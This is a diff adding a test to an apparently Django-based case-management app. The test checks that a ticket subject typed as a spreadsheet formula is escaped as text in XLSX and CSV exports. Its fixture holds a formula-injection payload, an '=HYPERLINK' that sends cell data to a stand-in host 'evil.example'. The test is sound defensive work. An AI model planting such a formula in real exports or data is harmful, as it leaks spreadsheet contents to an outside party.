@@ -72,3 +72,19 @@ def test_s2_ticket_drill_down_export_is_not_personal(hall, manager, device):
     rows = _csv(got)
     assert len(rows) == 2 and rows[0][1] == "号码"
     assert not AuditLog.objects.filter(action=AuditLog.Action.PII_EXPORT).exists()
+
+
+def test_s2_a_customers_formula_reaches_the_sheet_as_text(hall, clerk):
+    """A subject a customer or clerk typed as "=HYPERLINK(…)" must not become a live formula in
+    the manager's Excel (nor a command in a CSV opened there): it is written with a leading
+    apostrophe, as text."""
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
+    cases.open_case(
+        clerk, kind="work_order", channel="hotline", category="other", description="x", subject=evil
+    )
+    c = client_for(clerk)
+    x = c.get("/cases/", {"scope": "mine", "export": "xlsx"})
+    cell = openpyxl.load_workbook(io.BytesIO(x.content)).active.cell(2, 3)
+    assert cell.value == "'" + evil and cell.data_type == "s"
+    rows = _csv(c.get("/cases/", {"scope": "mine", "export": "csv"}))
+    assert rows[1][2] == "'" + evil
